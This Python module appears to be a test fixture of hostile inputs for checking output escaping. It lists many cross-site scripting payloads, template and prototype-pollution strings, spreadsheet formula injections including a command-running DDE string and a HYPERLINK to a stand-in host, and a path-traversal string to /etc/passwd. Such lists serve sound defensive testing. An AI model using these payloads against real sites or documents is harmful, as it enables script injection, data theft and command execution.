"""Texts that try to be more than text: each would leave a mark on a page in which it was read as anything else.

The mark is `window.hit`, or a request to `evil.example`.
"""

from __future__ import annotations

from zoo import HOSTILE

_HIT = "window.hit=1"
_EVIL = "//evil.example/x"

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *HOSTILE,
            # ends of what it stands in
            f"</script><script>{_HIT}</script>",
            f"</SCRIPT ><script>{_HIT}</script>",
            f"--></script><script>{_HIT}//",
            f"<!--<script>{_HIT}</script>",
            "<!--",
            "--!>",
            f"]]><script>{_HIT}</script>",
            f"</style><script>{_HIT}</script>",
            f"</title><script>{_HIT}</script>",
            f"</textarea><script>{_HIT}</script>",
            f"</noscript><script>{_HIT}</script>",
            f"</option></select><script>{_HIT}</script>",
            f"</td></tr></table><script>{_HIT}</script>",
            f"</text></svg><script>{_HIT}</script>",
            # elements that run by themselves
            f"<img src=x onerror={_HIT}>",
            f"<img src={_EVIL}>",
            f"<svg onload={_HIT}>",
            f"<svg><script>{_HIT}</script></svg>",
            f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
            f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={_HIT}>",
            f"<body onload={_HIT}>",
            f"<details open ontoggle={_HIT}>",
            f"<video src=x onerror={_HIT}>",
            f"<audio src={_EVIL} autoplay>",
            f"<iframe src=javascript:{_HIT}></iframe>",
            f"<iframe srcdoc='<script>parent.{_HIT[7:]}</script>'>",
            f"<object data={_EVIL}></object>",
            f"<embed src={_EVIL}>",
            f"<link rel=stylesheet href={_EVIL}>",
            f"<link rel=prefetch href={_EVIL}>",
            f"<base href={_EVIL}>",
            f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
            f"<form action={_EVIL}><input autofocus onfocus={_HIT}>",
            f"<style>@import '{_EVIL}';</style>",
            f"<script src={_EVIL}></script>",
            f"<a href=javascript:{_HIT}>x</a>",
            f"<marquee onstart={_HIT}>",
            f"<select autofocus onfocus={_HIT}>",
            f"<input type=image src=x onerror={_HIT}>",
            f"<template><script>{_HIT}</script></template>",
            # ends of an attribute
            f'" onmouseover="{_HIT}',
            f"' onmouseover='{_HIT}",
            f'" autofocus onfocus="{_HIT}" x="',
            f'"><script>{_HIT}</script>',
            f"'><script>{_HIT}</script>",
            f'" style="background:url({_EVIL})',
            # ends of a script's text
            f"';{_HIT};//",
            f'";{_HIT};//',
            f"`;${{{_HIT}}}",
            f"\\';{_HIT};//",
            f'\\";{_HIT};//',
            f"\u2028{_HIT}\u2029",
            f'"}};{_HIT};{{"',
            # templates, objects, numbers and places of sentences
            "{{constructor.constructor('window.hit=1')()}}",
            "${window.hit=1}",
            "{name}{rows}{count}",
            "$& $1 $`",
            "__proto__",
            "constructor",
            "toString",
            "hasOwnProperty",
            "null",
            "NaN",
            "1e308",
            "true",
            # encodings
            "&lt;script&gt;window.hit=1&lt;/script&gt;",
            "&#60;script&#62;window.hit=1",
            "\u003cscript\u003ewindow.hit=1\u003c/script\u003e",
            "%3Cscript%3Ewindow.hit=1%3C/script%3E",
            "\ufeff<script>window.hit=1</script>",
            "\uff1cscript\uff1ewindow.hit=1",
            "\x00<script>window.hit=1</script>",
            "javascript:window.hit=1",
            "data:text/html,<script>window.hit=1</script>",
            # tables and files
            '=HYPERLINK("http:' + _EVIL + '")',
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
            "-2+3",
            "\t=1+1",
            "a,b;c\"d'\r\ne",
            "../../etc/passwd",
            "C:\\con\\nul",
            "1*3 ?",
            "=",
            "?",
        ]
    )
)
